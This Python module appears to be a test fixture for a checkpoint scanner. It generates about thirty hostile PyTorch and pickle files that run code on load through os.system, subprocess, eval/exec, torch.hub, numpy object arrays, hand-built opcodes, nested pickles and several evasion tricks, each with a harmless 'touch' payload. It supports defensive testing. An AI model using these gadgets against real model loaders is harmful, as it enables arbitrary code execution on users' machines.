"""Checkpoints that hold code, of many kinds: each would make a file named ``exploded``."""

import builtins
import codecs
import functools
import importlib
import io
import operator
import os
import pickle
import pickletools
import runpy
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

WEIGHTS = {"fc.weight": torch.ones(2, 3)}


class Call:
    """Calls a function when it is unpickled the ordinary way."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.what = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.what


class CallState:
    """The same, through the hook for an object's state."""

    def __init__(self, function: Callable[..., Any], state: object) -> None:
        self.function, self.state = function, state

    def __reduce__(self) -> tuple[Any, ...]:
        return dict, (), self.state, None, None, self.function


class CallItems:
    """The same, hidden in the items of an ordered dict."""

    def __init__(self, bomb: object) -> None:
        self.bomb = bomb

    def __reduce__(self) -> tuple[Any, ...]:
        return dict, (), None, None, iter([("a", self.bomb)])


def inside(bomb: object, *, legacy: bool = False) -> bytes:
    """Return a checkpoint that holds an object among its weights."""
    buffer = io.BytesIO()
    torch.save(
        {"state_dict": {**WEIGHTS, "x": bomb}, "meta": {}},
        buffer,
        _use_new_zipfile_serialization=not legacy,
    )
    return buffer.getvalue()


def with_pickle(text: bytes) -> bytes:
    """Return a checkpoint whose own pickle is this one."""
    buffer = io.BytesIO()
    torch.save({"state_dict": WEIGHTS}, buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, text if name.endswith("data.pkl") else old.read(name))
    return out.getvalue()


def tar(bomb: object) -> bytes:
    """Return torch's oldest format, an archive of pickles."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            content = pickle.dumps(bomb if name == "pickle" else 0, protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return out.getvalue()


def persistent(bomb: object) -> bytes:
    """Return a checkpoint whose name of a storage is an object to be made."""
    buffer = io.BytesIO()

    class Pickler(pickle.Pickler):
        def persistent_id(self, value: object) -> tuple[Any, ...] | None:
            return ("storage", bomb, "0", "cpu", 1) if isinstance(value, torch.Tensor) else None

    Pickler(buffer, protocol=2).dump({"state_dict": WEIGHTS})
    return with_pickle(buffer.getvalue())


def scripted() -> bytes:
    """Return an archive of torch.jit, which holds a program."""
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 3)), buffer)
    return buffer.getvalue()


def opcodes(target: Path) -> bytes:
    """Return a pickle by hand: STACK_GLOBAL of text put together, then REDUCE."""
    command = f"touch {target}".encode()
    body = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(command)]) + command + b"\x85R."
    pickletools.dis(body, io.StringIO())  # a right one
    return body


def payloads(target: Path) -> dict[str, bytes]:
    """Return the bytes of each kind of hostile checkpoint by name."""
    shell, code = f"touch {target}", f"open({str(target)!r}, 'w')"
    system = Call(os.system, shell)
    return {
        "os.system": inside(system),
        "posix.system, legacy format": inside(system, legacy=True),
        "builtins.eval": inside(Call(builtins.eval, code)),
        "builtins.exec": inside(Call(builtins.exec, code)),
        "builtins.open": inside(Call(builtins.open, str(target), "w")),
        "builtins.getattr": inside(Call(builtins.getattr, str, "format")),
        "builtins.__import__": inside(Call(builtins.__import__, "this")),
        "subprocess.Popen": inside(Call(subprocess.Popen, ["touch", str(target)])),
        "importlib.import_module": inside(Call(importlib.import_module, "this")),
        "runpy": inside(Call(runpy.run_path, str(target))),
        "functools.partial": inside(Call(functools.partial, os.system, shell)),
        "operator.methodcaller": inside(Call(operator.methodcaller("mkdir"), target)),
        "codecs": inside(Call(codecs.getdecoder, "zip")),
        "numpy's reduce": inside(Call(np.fromfile, str(target), "u1")),
        "numpy's objects": inside(np.array([system], dtype=object)),
        "torch.load again": inside(Call(torch.load, str(target), None, None)),
        "torch.hub": inside(Call(torch.hub.load_state_dict_from_url, f"file://{target}")),
        "a module's state": inside(CallState(os.system, shell)),
        "an item of a dict": inside(CallItems(system)),
        "a key of a dict": inside({("a", 1): system}),
        "a pickle in a pickle": inside(Call(pickle.loads, pickle.dumps(system))),
        "tar": tar({"state_dict": WEIGHTS, "x": system}),
        "a bare pickle": pickle.dumps({"state_dict": WEIGHTS, "x": system}, protocol=4),
        "a protocol of text": with_pickle(pickle.dumps(system, protocol=0)),
        "opcodes by hand": with_pickle(opcodes(target)),
        "a persistent id": persistent(system),
        "torch.jit": scripted(),
        "two pickles": with_pickle(pickle.dumps({"state_dict": {}}) + opcodes(target)),
    }
